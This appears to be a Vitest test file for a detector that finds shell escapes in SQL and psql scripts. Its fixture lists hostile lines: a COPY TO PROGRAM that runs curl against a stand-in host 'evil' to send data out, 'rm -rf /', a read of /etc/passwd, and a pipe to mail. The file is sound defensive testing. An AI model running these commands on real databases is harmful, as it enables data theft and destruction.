import { describe, expect, it } from 'vitest';
import { findShellEscapes } from '../../../src/db/package-safety.js';

describe('findShellEscapes', () => {
  it('finds COPY … PROGRAM, \\!, \\copy … program and psql pipes with their lines', () => {
    const sql = [
      'CREATE TABLE t (a int);',
      "COPY t TO PROGRAM 'curl http://evil/?$(id)';",
      '\\! rm -rf /',
      "\\copy t from program 'cat /etc/passwd'",
      "DO $$ BEGIN EXECUTE 'copy t from   program ''id'''; END $$;",
      '\\o |mail root',
      "SELECT 'copy is fine';",
      "COPY t TO '/tmp/x.csv';",
    ].join('\n');
    expect(findShellEscapes(sql).map((e) => `${e.line} ${e.kind}`)).toEqual([
      '2 copy-program',
      '3 psql-shell',
      '4 psql-pipe',
      '5 copy-program',
      '6 psql-pipe',
    ]);
  });

  it('passes ordinary SQL, COPY to a file and comments mentioning the words', () => {
    expect(findShellEscapes("-- copy to program is refused\nCOPY t FROM STDIN;\nSELECT 'program';\n")).toEqual([]);
  });
});
